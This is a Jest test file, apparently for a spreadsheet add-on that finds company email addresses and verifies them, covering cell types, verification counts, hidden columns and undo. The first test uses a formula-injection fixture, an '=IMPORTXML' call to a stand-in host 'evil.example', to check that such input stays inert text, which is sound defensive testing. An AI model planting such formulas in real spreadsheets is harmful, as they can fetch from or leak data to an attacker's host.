import { describe, expect, test } from "@jest/globals";
import type { FindOptions } from "../../../src/jobs/protocol";
import type { ColumnPlan } from "../../../src/jobs/views";
import { plan } from "./clean-list-document";
import { companies, findEmails } from "./find-document";
import { dataOf, type JobDocument, jobWorld, SHEET } from "./job-document";

const world = jobWorld();

/** A service that finds this one email for every company. */
function answerWith(email: Record<string, unknown>, company_enrichment: Record<string, unknown>): void {
  world.service.fetch = async (request) => {
    if (!request.url.endsWith("domain-search")) return world.fetchOfService(request);
    const { company } = JSON.parse(await request.text());
    const meta = {
      search_id: "s",
      total_emails: 1,
      remaining_emails: 0,
      more_results: false,
      domain: company,
      limit: 50,
    };
    return Response.json({ error: false, response: { email_list: [email], company_enrichment, meta } });
  };
}

/** The first row of found emails, by header. */
function heldCells(document: JobDocument): Record<string, unknown> {
  const { workbook } = document.document;
  const { sheetId = -1 } = workbook.sheets().find(({ name }) => name === "Emails") ?? {};
  const [header = [], cells = []] = workbook.read(sheetId, { row: 1, column: 1, rows: 2, columns: 20 });
  return Object.fromEntries(
    header.flatMap(({ value }, i) => (value ? [[value, cells[i]?.formula ?? cells[i]?.value]] : [])),
  );
}

/** What a list says of an email before it is verified: by the status and the day of the search that has found it. */
function statusOfFound(row: Record<string, string>): string {
  if (row["verification.status"] !== "VALID") return "not verified yet";
  const ageMs = world.clock.now() - Date.parse(row["verification.last_verified_at"] ?? "");
  return ageMs > 90 * 24 * 60 * 60 * 1000 ? "VALID long ago" : "VALID";
}

describe("cells of found emails", () => {
  test("are numbers, booleans and dates as such, links as text, and everything else harmless text", async () => {
    const email = {
      email: "=HYPERLINK(1)@acme.example",
      email_type: "+1",
      first_name: "TRUE",
      last_name: "1/2",
      email_anon_id: "00123",
      verification: { status: "-1", last_verified_at: "2024-02-29 12:30:00+00:00" },
    };
    const enrichment = {
      name: '=IMPORTXML("https://evil.example","//a")',
      size: "11-50",
      founded_in: 1999,
      is_catch_all: false,
      website: "https://acme.example/?x=1",
      location: { postal_code: "01234", country: null },
    };
    answerWith(email, enrichment);
    const document = world.open(companies(["acme.example"]));
    const fields: FindOptions["enrichment"] = [
      "name",
      "size",
      "founded_in",
      "is_catch_all",
      "website",
      "location.postal_code",
      "location.country",
    ];
    await findEmails(document, {}, { enrichment: fields });
    const time = (Date.UTC(2024, 1, 29, 12, 30) - Date.UTC(1899, 11, 30)) / (24 * 60 * 60 * 1_000);
    expect(heldCells(document)).toEqual({
      Company: "acme.example",
      Email: email.email,
      "Type when found": "+1",
      "First name": "TRUE",
      "Last name": "1/2",
      "Email ID": "00123",
      "Status when found": "-1",
      "Last verified": time,
      "Company name": enrichment.name,
      "Company size": "11-50",
      "Company founded": 1999,
      "Company catch-all domain": false,
      "Company website": "https://acme.example/?x=1",
      "Company country": null,
      "Company postal code": "01234",
      "found by": expect.stringMatching(/^[a-z0-9]+(\.\d+)*:acme\.example =hyperlink\(1\)@acme\.example$/),
    });
  });

  test("are verified for less: what the search calls VALID is left out, others are asked by their ids @slow", async () => {
    const document = world.open(companies(["reliable.example", "three-emails.example"]));
    await findEmails(document);
    const emails = document.rows("Emails");
    const valid = emails.filter((row) => row["verification.status"] === "VALID").length;
    expect(valid).toBeGreaterThan(0);
    expect(valid).toBeLessThan(emails.length);
    const { sheetId = -1 } = document.document.workbook.sheets().find(({ name }) => name === "Emails") ?? {};
    await document.verify({ sheetId, column: 2 });
    const asked = document.asked("email-verifier").map(({ request }) => request);
    expect(asked).toHaveLength(emails.length - valid);
    expect(asked.every((request) => "email_anon_id" in request)).toBe(true);
    const plan = dataOf(
      await document.call("planJob", {
        kind: "verify",
        sheetId,
        column: 2,
        headerRow: 1,
        rows: { kind: "todo" },
        fields: ["email_status"],
        alsoFoundValid: false,
      }),
    ) as ColumnPlan;
    expect(plan.counts).toMatchObject({ done: emails.length, todo: 0 });
    // Named for people, and all different: the search has a column of types, too.
    const names = document.user.keyboard.shows("Emails", "A1:Z1")[0]?.filter((name) => /type/i.test(name));
    expect(names?.sort()).toEqual(["Email type", "Type when found"]);
    // One column says of every row if it can be mailed; the search's own is hidden.
    const hidden = (): string[] => {
      const { workbook, keyboard } = { workbook: document.document.workbook, keyboard: document.user.keyboard };
      const [header = []] = keyboard.shows("Emails", "A1:Z1");
      return [...workbook.hidden(sheetId, "columns")].map((column) => header[column - 1] ?? "");
    };
    expect(hidden().sort()).toEqual(["Status when found", "found by", "verified for"]);
    const verified = document.rows("Emails");
    expect(
      verified.every(({ email_status }) =>
        /^(VALID|VALID long ago|INVALID|CATCH_ALL|not known: .*)$/.test(String(email_status)),
      ),
    ).toBe(true);
    const foundValid = verified.filter((row) => row["verification.status"] === "VALID");
    expect(foundValid.map((row) => row.email_status)).toEqual(foundValid.map(statusOfFound));
    expect(new Set(foundValid.map(statusOfFound))).toEqual(new Set(["VALID", "VALID long ago"]));
    expect(document.asked("email-verifier")).toHaveLength(emails.length - valid);
    // Undone, the search's own column is back.
    const { id } = await document.last();
    await document.undo(id);
    expect(hidden()).toEqual(["found by"]);
    await document.verify({ sheetId, column: 2, alsoFoundValid: true });
    expect(document.asked("email-verifier")).toHaveLength(2 * emails.length - valid);
  });

  test("answer for no other address that somebody types over one of them @slow", async () => {
    const document = world.open(companies(["reliable.example"]));
    await findEmails(document);
    const sheetId = document.document.workbook.sheets()[1]?.sheetId ?? -1;
    const valid = document.rows("Emails").filter((row) => row["verification.status"] === "VALID");
    const at = document.rows("Emails").findIndex((row) => row["verification.status"] === "VALID") + 2;
    const other = "typed.over@company1.example";
    document.user.keyboard.type("Emails", `B${at}`, other);
    const plan = dataOf(await document.plan({ kind: "todo" }, { sheetId, column: 2, headerRow: 1 }));
    const left = document.rows("Emails").filter((row, i) => i !== at - 2 && row["verification.status"] === "VALID");
    const longAgo = left.filter((row) => statusOfFound(row) === "VALID long ago").length;
    expect(longAgo).toBeGreaterThan(0);
    expect(plan).toMatchObject({ foundValidRows: valid.length - 1, counts: { foundLongAgo: longAgo } });
    await document.verify({ sheetId, column: 2 });
    expect(document.asked("email-verifier").map(({ request }) => request)).toContainEqual({ email: other });
    expect(document.rows("Emails")[at - 2]?.["verified for"]).toContain(other);
  });

  test("are counted alike beside them and in a clean list, a role's address that the search calls VALID included @slow", async () => {
    const document = world.open(companies(["reliable.example"]));
    await findEmails(document);
    const sheetId = document.document.workbook.sheets()[1]?.sheetId ?? -1;
    await document.verify({ sheetId, column: 2, fields: ["email_status", "verdict", "verdict_reason"] });
    const rows = document.rows("Emails");
    const roles = rows.filter((row) => row.email_type === "generic" && statusOfFound(row) === "VALID");
    expect(roles.length).toBeGreaterThan(0);
    for (const { verdict, verdict_reason } of roles)
      expect({ verdict, verdict_reason }).toEqual({
        verdict: "Risky",
        verdict_reason: "a role's address, such as info@",
      });
    const { piles } = await plan(document, { sheetId });
    expect(rows.filter(({ verdict }) => verdict === "OK to send")).toHaveLength(piles.ok);
    expect(rows.filter((row) => row.verdict_reason === "its domain search calls it VALID").length).toBeGreaterThan(0);
  });

  test("are verified although a company is called as the header of its column", async () => {
    const document = world.open(companies(["reliable.example"]));
    await findEmails(document);
    const { sheetId = -1 } = document.document.workbook.sheets()[1] ?? {};
    document.user.keyboard.type("Emails", "A2", "Company");
    await document.verify({ sheetId, column: 2 });
    expect(document.rows("Emails")[0]).toMatchObject({ company: "Company", email_status: expect.stringMatching(/./) });
  });

  test("are taken as VALID without a date, too: a field that is undefined comes back as null (google.undefined-fields)", async () => {
    const document = world.open(companies(["reliable.example"]));
    await findEmails(document);
    const sheetId = document.document.workbook.sheets()[1]?.sheetId ?? -1;
    const [header = []] = document.user.keyboard.shows("Emails", "A1:Z1");
    const column = String.fromCharCode(65 + header.indexOf("Last verified"));
    for (const i of document.rows("Emails").keys()) document.user.keyboard.type("Emails", `${column}${i + 2}`, "");
    expect((await document.verify({ sheetId, column: 2 })).state).toBe("finished");
    const found = document.rows("Emails").filter((row) => row["verification.status"] === "VALID");
    expect(found.map(({ email_status }) => email_status)).not.toContain("");
  });

  describe("that come into a list which is verified already", () => {
    const statusesOf = (document: JobDocument): string[][] =>
      document.rows("Emails").map((row) => [row.company ?? "", row.email_status ?? "", statusOfFound(row)]);
    const emailsSheet = (document: JobDocument): number =>
      document.document.workbook.sheets().find(({ name }) => name === "Emails")?.sheetId ?? -1;

    test("say in its status column which of them can be mailed, until they are verified too", async () => {
      const document = world.open(companies(["three-emails.example"]));
      await findEmails(document);
      const sheetId = emailsSheet(document);
      await document.verify({ sheetId, column: 2 });
      const verified = (await document.last()).id;
      document.user.keyboard.type(SHEET, "B3", "reliable.example");
      await findEmails(document, {}, { target: { kind: "append", sheetId } });
      const found = (await document.last()).id;
      const later = statusesOf(document).filter(([company]) => company === "reliable.example");
      expect(later.length).toBeGreaterThan(3);
      for (const [, status, ofSearch] of later) expect(status).toBe(ofSearch);
      expect(later.map(([, status]) => status)).toEqual(expect.arrayContaining(["VALID long ago", "not verified yet"]));

      // A search's own words there are nobody else's: neither of the two jobs is held up by them.
      expect(await document.undo(verified, "look")).toMatchObject({ othersCells: 0 });
      expect(await document.undo(found, "look")).toMatchObject({ listRows: later.length, othersCells: 0 });

      await document.verify({ sheetId, column: 2 });
      expect(
        statusesOf(document).every(([, status]) =>
          /^(VALID|VALID long ago|INVALID|CATCH_ALL|not known: .*)$/.test(status ?? ""),
        ),
      ).toBe(true);
      // A verification of them was paid for, and goes with its rows.
      const told = { listRows: later.length, answeredRows: later.length, othersCells: 0 };
      expect(await document.undo(found, "look")).toMatchObject(told);
    });

    test("get columns that read like the first ones, whoever adds them @slow", async () => {
      const document = world.open(companies(["three-emails.example"]));
      await findEmails(document);
      const sheetId = emailsSheet(document);
      await document.verify({ sheetId, column: 2, fields: ["email_status", "type"] });
      document.user.keyboard.type(SHEET, "B3", "reliable.example");
      await findEmails(document, {}, { target: { kind: "append", sheetId }, enrichment: ["description"] });
      const { workbook } = document.document;
      const [header = []] = document.user.keyboard.shows("Emails", "A1:Z1");
      const area = { row: 1, column: 1, rows: 1, columns: 26 };
      const [notes = []] = workbook.readNotes(sheetId, area);
      const [styles = []] = workbook.readStyles(sheetId, area);
      const look = (name: string) => {
        const at = header.indexOf(name);
        const width = workbook.size(sheetId, "columns", at + 1);
        return { note: notes[at], weight: styles[at]?.fontWeight, isNarrow: width < 80, isWide: width > 200 };
      };
      const bold = { weight: "bold", isNarrow: false };
      expect(look("Email status")).toEqual({
        ...bold,
        note: expect.stringMatching(/^email_status: .+\.$/),
        // "not known: the mail server did not answer"
        isWide: true,
      });
      expect(look("Email type")).toEqual({
        ...bold,
        note: expect.stringMatching(/^type: .+\.$/),
        isWide: false,
      });
      expect(look("Company description")).toEqual({
        ...bold,
        note: expect.stringMatching(/^company_enrichment\.description: .+\.$/),
        isWide: true,
      });
    });
  });

  test("are verified again on request, although the search calls them VALID and they have their status @slow", async () => {
    const document = world.open(companies(["reliable.example"]));
    await findEmails(document);
    const valid = document.rows("Emails").filter((row) => row["verification.status"] === "VALID").length;
    const sheetId = document.document.workbook.sheets()[1]?.sheetId ?? -1;
    await document.verify({ sheetId, column: 2 });
    const before = document.asked("email-verifier").length;
    const request = { sheetId, column: 2, headerRow: 1, alsoFoundValid: true };
    expect(dataOf(await document.plan({ kind: "todo" }, request))).toMatchObject({
      toAsk: valid,
      foundValidRows: valid,
    });
    await document.verify({ sheetId, column: 2, alsoFoundValid: true });
    expect(document.asked("email-verifier")).toHaveLength(before + valid);
  });
});
